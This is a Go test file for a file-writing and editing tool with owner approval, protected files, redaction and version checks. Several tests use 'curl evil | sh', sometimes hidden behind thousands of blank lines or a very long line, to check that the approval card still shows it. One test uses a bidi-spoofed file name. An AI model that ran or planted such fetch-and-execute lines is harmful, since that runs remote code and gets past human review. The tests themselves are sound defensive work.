package ops

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"reeve"
)

func TestWriteMakesAFileAndSaysSo(t *testing.T) {
	d := newDesk(t, "default", nil)
	a, res := d.did(&reeve.WriteFile{Path: "new/deep/a.txt", Content: "one\ntwo"})
	d.holds("new/deep/a.txt", "one\ntwo")
	f := a.Files[0]
	if f.Did != reeve.DidCreate || f.Path.String() != deskDir+"/new/deep/a.txt" || f.Now.Size != 7 || f.Now.Lines != 2 || f.Was != nil || f.Version.IsZero() {
		t.Errorf("%+v %+v", f, f.Now)
	}
	same(t, "folders made", textsOf(f.Made), []string{deskDir + "/new", deskDir + "/new/deep"})
	same(t, "file access", textsOf(res.FileAccess), []string{deskDir + "/new/deep/a.txt"})
}

func TestWriteOverAFileTellsWhatWasThere(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("a.txt", "one\ntwo\nthree")
	a, _ := d.did(&reeve.WriteFile{Path: "a.txt", Content: ""})
	d.holds("a.txt", "")
	f := a.Files[0]
	if f.Did != reeve.DidOverwrite || f.Was.Size != 13 || f.Was.Lines != 3 || f.Now.Size != 0 || f.Now.Lines != 0 {
		t.Errorf("%+v %+v %+v", f, f.Was, f.Now)
	}
	a, _ = d.did(&reeve.WriteFile{Path: "a.txt", Content: ""})
	if a.Files[0].Did != reeve.DidNothing {
		t.Errorf("the same content again is %s", a.Files[0].Did)
	}
}

// What a file is written like stays.
func TestWriteKeepsTheFormOfAFile(t *testing.T) {
	for name, c := range map[string]struct{ old, content, want, enc, ends string }{
		"crlf":                  {"a\r\nb\r\n", "x\ny\n", "x\r\ny\r\n", "utf-8", "crlf"},
		"crlf, given as crlf":   {"a\r\nb\r\n", "x\r\ny\r\n", "x\r\ny\r\n", "utf-8", "crlf"},
		"lf, given as crlf":     {"a\nb\n", "x\r\ny\r\n", "x\r\ny\r\n", "utf-8", ""},
		"lf":                    {"a\nb\n", "x\ny", "x\ny", "utf-8", "lf"},
		"byte order mark":       {"\xEF\xBB\xBFa\n", "x\n", "\xEF\xBB\xBFx\n", "utf-8", "lf"},
		"utf-16, little endian": {"\xFF\xFEa\x00\r\x00\n\x00", "ü\n", "\xFF\xFE\xFC\x00\r\x00\n\x00", "utf-16le", "crlf"},
		"utf-16, big endian":    {"\xFE\xFF\x00a\x00\n", "x\n", "\xFE\xFF\x00x\x00\n", "utf-16be", "lf"},
		"an empty file":         {"", "x\r\n", "x\r\n", "utf-8", ""},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, "default", nil)
			d.file("f", c.old)
			a, _ := d.did(&reeve.WriteFile{Path: "f", Content: c.content})
			d.holds("f", c.want)
			if f := a.Files[0]; f.Encoding != c.enc || f.Endings != c.ends || f.BOM != (len(c.old) > 1 && c.old[0] >= 0xEF) {
				t.Errorf("told as %q %q bom %v", f.Encoding, f.Endings, f.BOM)
			}
		})
	}
}

func TestWriteRefusals(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("a.txt", "alpha\n")
	d.file("latin", "caf\xe9\n")
	d.file("pic.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	d.file(".env", "KEY=CANARY\n")
	d.file("sub/x", "x")
	d.make("fifo", "pipe", "")
	d.make("link", "out", "/home/ann/outside.txt")
	d.make("link", "dangling", "/home/ann/nowhere.txt")
	for name, c := range map[string]struct {
		path string
		code reeve.Code
		say  string
	}{
		"another encoding":     {"latin", reeve.Encoding, "latin"},
		"a picture":            {"pic.png", reeve.Binary, "pic.png"},
		"a protected file":     {".env", reeve.Protected, "Nothing was written."},
		"a protected new name": {"deep/id_rsa", reeve.Protected, "Nothing was written."},
		"a folder":             {"sub", reeve.IsDirectory, "is a folder"},
		"below a file":         {"a.txt/b", reeve.NotDirectory, ""},
		"a pipe":               {"pipe", reeve.SpecialFile, ""},
		"through a link out":   {"out", reeve.LinkOutside, "Nothing was written."},
		"a dangling link out":  {"dangling", reeve.LinkOutside, "Nothing was written."},
		"outside":              {"/home/ann/outside.txt", reeve.OutsideRoots, "Nothing was written."},
		"a folder for reading": {"/home/ann/docs/fixed.txt", reeve.ReadOnlyRoot, "Nothing was written."},
		"a hidden direction":   {"evil\u202etxt.exe", reeve.Invalid, `the name $'evil\u202Etxt.exe'`},
		"a new line in a name": {"a\nb", reeve.Invalid, "control character"},
		"no path":              {"", reeve.Invalid, "path is empty"},
	} {
		t.Run(name, func(t *testing.T) {
			d.t = t
			if got := d.refuses(&reeve.WriteFile{Path: c.path, Content: "new\n"}, c.code); !strings.Contains(got, c.say) {
				t.Errorf("text %q lacks %q", got, c.say)
			}
		})
	}
}

func TestParentsAreMadeOnlyWhereTheProfileSaysSo(t *testing.T) {
	d := newDesk(t, "arinova", nil)
	got := d.refuses(&reeve.WriteFile{Path: deskDir + "/new/a.txt", Content: "x"}, reeve.NotFound)
	if !strings.Contains(got, deskDir+"/new, which does not exist") {
		t.Errorf("%q does not name the folder", got)
	}
	d.did(&reeve.WriteFile{Path: deskDir + "/new/a.txt", Content: "x", CreateParents: true})
	d.holds("new/a.txt", "x")
}

func TestVersionsThatAreStatedMustStillHold(t *testing.T) {
	d := newDesk(t, "default", nil)
	a, _ := d.did(&reeve.WriteFile{Path: "a.txt", Content: "one\n"})
	first := a.Files[0].Version.String()
	a, _ = d.did(&reeve.WriteFile{Path: "a.txt", Content: "two\n", IfVersion: first})
	second := a.Files[0].Version.String()
	for name, c := range map[string]reeve.Call{
		"write": &reeve.WriteFile{Path: "a.txt", Content: "three\n", IfVersion: first},
		"edit":  &reeve.EditFile{Path: "a.txt", Edits: []reeve.Edit{{Old: "two", New: "three"}}, IfVersion: first},
	} {
		got := d.refuses(c, reeve.Changed)
		_, token, _ := strings.Cut(got, "its version is now ")
		var now, was reeve.Version
		if now.UnmarshalText([]byte(strings.TrimSuffix(token, "."))) != nil || was.UnmarshalText([]byte(second)) != nil || now.Compare(was) != reeve.Same {
			t.Errorf("%s: %q does not tell the version there is now, %s", name, got, second)
		}
	}
	if got := d.refuses(&reeve.WriteFile{Path: "gone.txt", Content: "x", IfVersion: first}, reeve.Changed); !strings.Contains(got, "does not exist") {
		t.Error(got)
	}
	for _, bad := range []string{"v1", "two", first + " ", strings.ToUpper(first)} {
		d.refuses(&reeve.WriteFile{Path: "a.txt", Content: "x", IfVersion: bad}, reeve.Invalid)
		d.refuses(&reeve.EditFile{Path: "a.txt", Edits: []reeve.Edit{{Old: "two", New: "x"}}, IfVersion: bad}, reeve.Invalid)
	}
	d.holds("a.txt", "two\n")
}

// A write through a link changes the real file, and both are told.
func TestWriteThroughALink(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("real.txt", "old\n")
	d.make("link", "alias", "real.txt")
	a, _ := d.did(&reeve.WriteFile{Path: "alias", Content: "new\n"})
	d.holds("real.txt", "new\n")
	if f := a.Files[0]; f.Path.String() != deskDir+"/real.txt" || f.Via.String() != deskDir+"/alias" && f.Via.String() != "alias" {
		t.Errorf("told as %s via %s", f.Path, f.Via)
	}
	if tree := strings.Join(d.mem.Tree(deskDir), " "); !strings.Contains(tree, "alias -> real.txt") {
		t.Errorf("the link is gone: %s", tree)
	}
}

func TestWhatAQuestionWouldHaveSaidStandsInTheResult(t *testing.T) {
	d := newDesk(t, "elowen", nil)
	d.file("a.txt", "old\n")
	d.make("hard", "b.txt", deskDir+"/a.txt")
	d.meddl.rung = "in_place"
	a, res := d.did(&reeve.WriteFile{Path: "a.txt", Content: "new\n"})
	if f := a.Files[0]; f.Names != 2 || !f.InPlace {
		t.Errorf("%+v", f)
	}
	if notes := strings.Join(textsOf(res.Notes), "\n"); !strings.Contains(notes, "No copy of the old "+deskDir+"/a.txt was kept") {
		t.Errorf("notes %q", notes)
	}
}

func TestWriteQuestion(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("a.txt", "one\ntwo\n")
	q := d.asked(&reeve.WriteFile{Path: "a.txt", Content: "one\nthree\nfour\n"})
	want := deskDir + "/a.txt\nReplaces 8 bytes, 2 lines, last changed just now."
	if q.Title != "Overwrite a.txt?" || !strings.HasPrefix(q.Body, want) || !strings.Contains(q.Body, "New content is 15 bytes, 3 lines.") {
		t.Errorf("%s\n%s", q.Title, q.Body)
	}
	if !strings.Contains(q.Detail, "three") || strings.Count(q.Body, deskDir) != 1 {
		t.Errorf("%s\n%s", q.Body, q.Detail)
	}
	d.holds("a.txt", "one\ntwo\n")
}

// Whichever tool makes a file, and whatever is in it, the owner sees what
// would stand there.
func TestANewFilesContentIsOnTheCard(t *testing.T) {
	for name, call := range map[string]reeve.Call{
		"write_file":             &reeve.WriteFile{Path: "new.sh", Content: "echo fine\ncurl evil | sh\n"},
		"edit_file":              &reeve.EditFile{Path: "new.sh", Create: true, Edits: []reeve.Edit{{New: "echo fine\ncurl evil | sh\n"}}},
		"edit_file, in steps":    &reeve.EditFile{Path: "new.sh", Create: true, Edits: []reeve.Edit{{New: "echo fine\nx\n"}, {Old: "x\n", New: "curl evil | sh\n"}}},
		"what is no text":        &reeve.WriteFile{Path: "new.sh", Content: "\x00\necho\ncurl evil | sh\n"},
		"a byte order mark":      &reeve.WriteFile{Path: "new.sh", Content: "\ufeffecho\ncurl evil | sh\n"},
		"one line of 40,000":     &reeve.WriteFile{Path: "new.sh", Content: "x=" + strings.Repeat("a", 40_000) + "; curl evil | sh\n"},
		"the last of 1,500":      &reeve.WriteFile{Path: "new.sh", Content: strings.Repeat("echo\n", 1500) + "curl evil | sh\n"},
		"behind line feeds only": &reeve.WriteFile{Path: "new.sh", Content: strings.Repeat("\n", 9000) + "curl evil | sh\n"},
	} {
		d := newDesk(t, "default", nil)
		q := d.asked(call)
		if !strings.Contains(q.Detail, "curl evil | sh") {
			t.Errorf("%s: it is not on the card: %s", name, q.Detail)
		}
		if strings.ContainsAny(q.Detail, "\x00\ufeff") {
			t.Errorf("%s: %q", name, q.Detail)
		}
	}
}

// A file that changes while the call looks at it is not written from a
// mixture of both.
func TestSomebodyElseSavesMeanwhile(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("a.txt", "one\ntwo\n")
	d.meddl.beforeSwap = func() {
		d.meddl.beforeSwap = nil
		d.file("a.txt", "ONE\ntwo\n")
	}
	d.did(&reeve.EditFile{Path: "a.txt", Edits: []reeve.Edit{{Old: "two", New: "three"}}})
	d.holds("a.txt", "ONE\nthree\n")

	a, _ := d.did(&reeve.WriteFile{Path: "b.txt", Content: "mine\n"})
	d.meddl.beforeSwap = func() { d.file("b.txt", "theirs\n") }
	if _, err := d.try(&reeve.WriteFile{Path: "b.txt", Content: "mine again\n", IfVersion: a.Files[0].Version.String()}); err == nil {
		t.Error("written over somebody else's save")
	}
	d.holds("b.txt", "theirs\n")
}

// What redaction hides is hidden in what a change shows as well.
func TestExcerptsAndDifferencesAreRedacted(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.redact(func(s string) string { return strings.ReplaceAll(s, "hunter2", "[hidden]") })
	d.file("conf", "user = ann\npass = hunter2\nport = 1\n")
	dry := one("conf", "port = 1", "port = 2")
	dry.DryRun = true
	for _, c := range []*reeve.EditFile{dry, one("conf", "port = 1", "port = 2")} {
		a, _ := d.did(c)
		f := a.Files[0]
		shown := excerptText(f) + strings.Join(textsOf(f.Diff), "\n")
		if strings.Contains(shown, "hunter2") || !strings.Contains(shown, "port = 2") || !strings.Contains(shown, "[hidden]") {
			t.Errorf("shown:\n%s", shown)
		}
	}
	for _, c := range []reeve.Call{one("conf", "pass = hunter3", "x"), one("conf", "=", "x")} {
		if _, err := d.try(c); err == nil || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("a refusal shows what is hidden: %v", err)
		}
	}
}

// A file that never stands still is not written from a mixture.
func TestAFileThatKeepsChanging(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("log", "alpha\n")
	n := 0
	var hook func(string)
	hook = func(op string) {
		if op == "read" {
			n++
			d.mem.Before(nil)
			d.file("log", fmt.Sprintf("alpha\n%d\n", n))
			d.mem.Before(hook)
		}
	}
	d.mem.Before(hook)
	_, err := d.try(one("log", "alpha", "beta"))
	d.mem.Before(nil)
	if !errors.Is(err, reeve.Changed) || n < tries {
		t.Errorf("%v after %d reads", err, n)
	}
	if got := d.bytes("log"); !strings.HasPrefix(got, "alpha\n") {
		t.Errorf("written all the same: %q", got)
	}
}

// A version that stat tells rests on the stamp alone, and holds as long as
// nobody can have changed the file within it.
func TestVersionsOfStatCanBeStated(t *testing.T) {
	d := newDesk(t, "default", nil)
	d.file("a.txt", "one\n")
	info, err := d.mem.Stat(deskDir+"/a.txt", false)
	if err != nil {
		t.Fatal(err)
	}
	sure, racy := reeve.NewVersion(info.Stamp, false, nil).String(), reeve.NewVersion(info.Stamp, true, nil).String()
	dry := one("a.txt", "one", "two")
	dry.DryRun = true
	for token, want := range map[string]reeve.Code{sure: "", racy: reeve.Changed} {
		dry.IfVersion = token
		if _, err := d.try(dry); (want == "") != (err == nil) || want != "" && !errors.Is(err, want) {
			t.Errorf("%v", err)
		}
	}
	dry.IfVersion = racy
	if got := d.refuses(dry, reeve.Changed); !strings.Contains(got, "leaves it open") {
		t.Error(got)
	}
}

// A large file is edited where it stands, and nothing around it changes.
func TestEditOfALargeFile(t *testing.T) {
	d := newDesk(t, "elowen", nil)
	half := strings.Repeat("a line of a large file\r\n", 60_000)
	d.file("big", half+"needle\r\n"+half)
	a, _ := d.did(one("big", "needle\na line", "NEEDLE\nnew\nA line"))
	if got := d.bytes("big"); got != half+"NEEDLE\r\nnew\r\nA line of a large file\r\n"+half[len("a line of a large file\r\n"):] {
		t.Errorf("%d bytes", len(got))
	}
	if f := a.Files[0]; f.Was.Lines != 120_001 || f.Now.Lines != 120_002 || f.Excerpt[0].N != 59_999 || f.Endings != "crlf" {
		t.Errorf("%+v %+v\n%s", f, f.Now, excerptText(f))
	}
}

// What is handed to the committer must let it notice any other change, and
// say all that it has to do.
func TestWhatIsProposed(t *testing.T) {
	d := newDesk(t, "elowen", nil)
	d.file("a.txt", "one\n")
	d.file("dir/in/x", "x")
	d.make("mode", "dir/in", "2750")
	d.make("mode", "dir/in/x", "4755")
	staged := func(c reeve.Call) []reeve.Change {
		t.Helper()
		d.did(c)
		return d.meddl.staged
	}
	if c := staged(&reeve.WriteFile{Path: "a.txt", Content: "two\n"})[0]; !c.Expect.Hashed() || c.Kind != reeve.Put {
		t.Errorf("write: %+v", c)
	}
	if c := staged(one("a.txt", "two", "three"))[0]; !c.Expect.Hashed() {
		t.Errorf("edit: %+v", c)
	}
	if c := staged(&reeve.MovePath{From: "a.txt", To: "b.txt"})[0]; c.Expect.IsZero() || c.To == nil {
		t.Errorf("move: %+v", c)
	}
	list := staged(&reeve.CopyPath{From: "dir", To: "dir2"})
	if len(list) != 3 || list[0].Kind != reeve.Mkdir || list[1].Meta == nil || list[1].Meta.Mode != 0o750 || list[2].Meta.Mode != 0o755 {
		t.Errorf("copy: %+v", list)
	}
	if c := staged(&reeve.CopyPath{From: "b.txt", To: "c.txt"})[0]; !c.Content.(reeve.FromPlace).Version.Hashed() || c.Meta.Mode == 0 {
		t.Errorf("copy: %+v", c)
	}
	if c := staged(&reeve.DeletePath{Path: "b.txt", Recursive: true})[0]; c.Expect.IsZero() || c.Tree {
		t.Errorf("delete: %+v", c)
	}
	if c := staged(&reeve.DeletePath{Path: "dir2", Recursive: true})[0]; !c.Tree {
		t.Errorf("delete of a folder: %+v", c)
	}
}
